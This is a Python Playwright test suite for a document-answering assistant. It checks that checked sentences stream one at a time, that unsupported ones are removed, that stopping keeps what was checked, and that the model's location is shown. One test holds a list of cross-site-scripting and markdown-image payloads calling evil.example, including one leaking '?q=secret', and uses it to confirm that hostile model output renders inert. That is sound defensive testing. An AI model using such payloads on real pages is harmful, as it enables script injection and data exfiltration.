"""Answers that a model writes: shown sentence by sentence, only what was checked, stopped at any time."""

from __future__ import annotations

import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from assistant.app import Assistant, ModelState
from assistant.chat.base import ModelPlace
from assistant.records import Removed, Sentence, SentenceKind
from assistant.settings import load_settings
from assistant.web.writing import STOPPED, STOPPED_EARLY
from tests.chat.model_server import Answer as ModelAnswer
from tests.chat.model_server import ModelServer, Request
from tests.conftest import CORPUS
from tests.web.browsing import NARROW, WIDE, Open, ask, last, opening, overflow, violations
from tests.web.conftest import served
from tests.web.sample_assistant import SampleAssistant

HOSTILE = (
    "![x](http://evil.example/?q=1)",
    "<img src='http://evil.example/a.png' onerror='window.hacked=1'>",
    "[click](javascript:window.hacked=2)",
    "<script>window.hacked=3</script>",
    "<a href='javascript:window.hacked=4'>here</a> ${window.hacked=5} {{constructor}}",
    "<svg onload='window.hacked=6'></svg><style>@import 'http://evil.example/a.css'</style>",
    '[ref]: http://evil.example/b.png "x"\n![ref]',
)
WATCH = """() => {
    window.seen = [];
    const look = () => {
        const turn = [...document.querySelectorAll("article.turn")].at(-1);
        const words = turn ? turn.innerText : "";
        if (window.seen.at(-1) !== words) window.seen.push(words);
    };
    new MutationObserver(look).observe(document.body, {childList: true, characterData: true, subtree: true});
}"""


@pytest.fixture
def writing(sample: SampleAssistant) -> Iterator[SampleAssistant]:
    """The sample assistant with a model that writes four sentences, of which one is taken out."""
    before = sample.settings, sample.model_state, sample.steps, sample.between
    sample.settings = sample.settings.model_copy(update={"model": "openai:qwen3"})
    sample.model_state = ModelState(
        "openai:qwen3", ModelPlace("openai", "qwen3", "district-server.local", remote=False), None
    )
    sample.steps = (
        Sentence("In short:", SentenceKind.CONNECTIVE),
        Sentence("Schools meet all parents every year.", SentenceKind.SUPPORTED, (1,), item=True),
        Removed("It was created in 2012.", "No source mentions 2012."),
        Sentence("They have a written policy.", SentenceKind.SUPPORTED, (2,), item=True),
    )
    yield sample
    sample.settings, sample.model_state, sample.steps, sample.between = before
    sample.held_after = None


def send(page: Page, question: str) -> None:
    page.get_by_label("Your question").fill(question)
    page.get_by_label("Your question").press("Enter")


def test_sentences_come_one_by_one_and_the_removed_one_only_at_the_end(
    open_page: Open, writing: SampleAssistant
) -> None:
    page = open_page()
    expect(page.locator("#model")).to_contain_text(
        "qwen3 on district-server.local, inside your network.", timeout=20_000
    )
    page.evaluate(WATCH)
    ask(page, "Write what schools do.")
    expect(last(page, "ul.ours li")).to_have_count(2)
    seen: list[str] = page.evaluate("window.seen")
    growing = [words for words in seen if "Writing on…" in words]
    assert any("1 sentence. Writing on…" in words for words in growing)
    assert any("2 sentences, 1 left out. Writing on…" in words for words in growing)
    assert all("2012" not in words for words in growing)
    lengths = [words.count("parents every year") + words.count("written policy") for words in growing]
    assert lengths == sorted(lengths)
    expect(last(page, ".removed summary")).to_have_text("Removed: not in the sources (1)")
    last(page, ".removed summary").click()
    expect(last(page, ".removed")).to_contain_text("No source mentions 2012.")
    expect(last(page, ".answer-line")).to_contain_text("written by qwen3, each sentence checked")


def test_one_announcement_when_it_is_whole(open_page: Open, writing: SampleAssistant) -> None:
    page = open_page()
    page.evaluate("""() => {
        window.announced = [];
        const announcer = document.querySelector("[data-announcer]");
        new MutationObserver(() => { if (announcer.textContent) window.announced.push(announcer.textContent); })
            .observe(announcer, {childList: true, characterData: true, subtree: true});
    }""")
    ask(page, "Write what schools do.")
    page.wait_for_function("window.announced.length > 0")
    page.wait_for_timeout(300)
    assert page.evaluate("window.announced") == [
        "Answer from 2 citations: In short: Schools meet all parents every year. They have a written policy. "
        "1 sentence removed: not in the sources."
    ]
    assert page.locator("[role=log] [role=status], [role=log] [aria-live=polite]").count() == 0


def test_what_was_there_before_stays_untouched_while_an_answer_grows(open_page: Open, writing: SampleAssistant) -> None:
    page = open_page()
    ask(page, "Answer partly.")
    last(page, ".removed summary").click()
    first = page.locator("article.turn").first.element_handle()
    marker = page.locator("article.turn").first.locator("a.citation").first
    writing.between = 0.5
    send(page, "Write what schools do.")
    expect(page.locator(".pending .answer .supported").first).to_be_visible()
    marker.focus()
    expect(page.locator("article.turn:not(.pending)")).to_have_count(2)
    expect(marker).to_be_focused()
    assert page.evaluate("first => first === document.querySelector('article.turn')", first)
    expect(page.locator("article.turn").first.locator(".removed")).to_have_attribute("open", "")


def test_the_writing_is_stopped_and_what_was_checked_is_kept(open_page: Open, writing: SampleAssistant) -> None:
    writing.held_after = 2
    page = open_page()
    send(page, "Write what schools do.")
    expect(page.locator(".pending .supported")).to_have_count(1)
    page.get_by_role("button", name="Stop", exact=True).click()
    expect(page.locator(".pending")).to_have_count(0)
    expect(last(page, ".remark")).to_have_text(STOPPED)
    expect(last(page, ".supported")).to_have_text(["Schools meet all parents every year. 1"])
    expect(page.get_by_role("button", name="Stop", exact=True)).to_have_count(0)
    expect(page.get_by_label("Your question")).to_be_focused()
    writing.held_after = 0
    send(page, "Write it again.")
    page.get_by_role("button", name="Stop", exact=True).press("Enter")
    expect(last(page, ".remark")).to_have_text(STOPPED_EARLY)


def test_leaving_the_page_stops_the_model_and_keeps_what_was_checked(open_page: Open, writing: SampleAssistant) -> None:
    writing.held_after = 2
    page = open_page()
    send(page, "Write what schools do.")
    expect(page.locator(".pending .supported")).to_have_count(1)
    started = time.monotonic()
    page.get_by_role("link", name="Library").click()
    expect(page.locator(".documents li")).to_have_count(2)
    page.get_by_role("link", name="Ask", exact=True).click()
    expect(last(page, ".remark")).to_have_text(STOPPED)
    assert time.monotonic() - started < 10
    expect(last(page, ".supported")).to_have_count(1)


def test_a_new_conversation_drops_what_is_still_written(open_page: Open, writing: SampleAssistant) -> None:
    page = open_page()
    ask(page, "What are the three LCAP goals?")
    writing.held_after = 2
    send(page, "Write what schools do.")
    expect(page.locator(".pending .supported")).to_have_count(1)
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator("#examples")).to_be_visible()
    page.wait_for_timeout(500)
    expect(page.locator("article.turn")).to_have_count(0)
    ask(page, "What are the three LCAP goals?")
    assert writing.asked[-1][1] == 0


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", [WIDE, NARROW])
def test_a_growing_answer_breaks_no_rule(
    open_page: Open, writing: SampleAssistant, size: tuple[int, int], scheme: str
) -> None:
    page = open_page(size=size, scheme=scheme)
    writing.held_after = 2
    send(page, "Write what schools do.")
    expect(page.locator(".pending .supported").first).to_be_visible()
    assert violations(page) == []
    assert overflow(page) <= 0
    page.get_by_role("button", name="Stop", exact=True).click()
    expect(last(page, ".remark")).to_have_text(STOPPED)
    assert violations(page) == []


def test_hostile_words_of_a_model_stay_words_at_every_step(open_page: Open, writing: SampleAssistant) -> None:
    writing.between = 0.05
    writing.steps = tuple(
        step
        for words in HOSTILE
        for step in (
            Sentence(words, SentenceKind.SUPPORTED, (1,)),
            Sentence(words, SentenceKind.SUPPORTED, (1,), item=True),
            Sentence(words, SentenceKind.CONNECTIVE),
            Removed(words, words),
        )
    )
    page = open_page()  # at its end this fails for any request to another host and for any error
    ask(page, "Write what schools do.")
    last(page, ".removed summary").click()
    assert page.evaluate("window.hacked") is None
    markup = "#conversation :is(img, script, style, svg, iframe, form, a[href^=http], a[href^=javascript])"
    assert page.locator(markup).count() == 0
    for words in HOSTILE:
        expect(last(page, ".answer")).to_contain_text(words.split("\n")[0])


@pytest.mark.parametrize(
    ("state", "allowed", "words"),
    [
        (ModelState(None, None, None), False, "Answers in quotes, on this machine."),
        (
            ModelState("openai:gpt-x", ModelPlace("openai", "gpt-x", "api.example.com", remote=True), None),
            True,
            "gpt-x at api.example.com: questions and passages leave your network.",
        ),
        (
            ModelState("openai:gpt-x", None, "That is off."),
            False,
            "Answers in quotes, on this machine: gpt-x at api.openai.com is set, but questions would leave your "
            "network, and that is not allowed.",
        ),
        (
            ModelState("ollama:qwen3", None, "Its package is missing."),
            False,
            "Answers in quotes, on this machine: qwen3 is set, but cannot be used.",
        ),
        (
            ModelState("ollama:qwen3", ModelPlace("ollama", "qwen3", "127.0.0.1", remote=False), None),
            False,
            "qwen3, on this machine.",
        ),
    ],
)
def test_beside_the_question_stands_who_answers_and_where_the_text_goes(
    open_page: Open, writing: SampleAssistant, state: ModelState, allowed: bool, words: str
) -> None:
    writing.model_state = state
    writing.settings = writing.settings.model_copy(update={"model": state.name, "remote_model_allowed": allowed})
    page = open_page(size=NARROW)
    expect(page.locator("#model")).to_contain_text(words, timeout=20_000)
    assert overflow(page) <= 0


def test_the_real_assistant_with_a_model_that_invents(context: object, built_in: Assistant) -> None:
    from playwright.sync_api import BrowserContext

    assert isinstance(context, BrowserContext)
    inventions = ("It was created in 2012 by Mayor Quimby.", "![x](http://evil.example/?q=secret)")

    def script(request: Request) -> ModelAnswer:
        text = (
            f"Goal 3 is about families and schools. {inventions[0]} All students and families engage in safe, "
            f"well-maintained schools. [E1] {inventions[1]} The budget is $4,500,000."
        )
        return ModelAnswer(text, pause=0.05)

    with ModelServer(script) as server:
        given = {"corpus": CORPUS, "data": built_in.settings.data, "model": "openai:scripted"}
        settings = load_settings({**given, "model_base_url": server.base_url}, environment={})
        with Assistant(settings) as assistant, served(assistant) as site, opening(context, site) as open_one:
            page = open_one()
            expect(page.locator("#model")).to_contain_text("scripted, on this machine.")
            page.evaluate(WATCH)
            page.get_by_label("Your question").fill("What is LCAP Goal 3?")
            page.get_by_label("Your question").press("Enter")
            expect(page.locator("article.turn:not(.pending)")).to_have_count(1, timeout=60_000)
            seen: list[str] = page.evaluate("window.seen")
            assert server.requests
            assert all("Quimby" not in words and "4,500,000" not in words for words in seen[:-1])
            expect(last(page, ".removed")).to_contain_text("Quimby")
            expect(last(page, ".answer > :not(.removed)").filter(has_text="Quimby")).to_have_count(0)
            expect(last(page, "a.citation").first).to_be_visible()
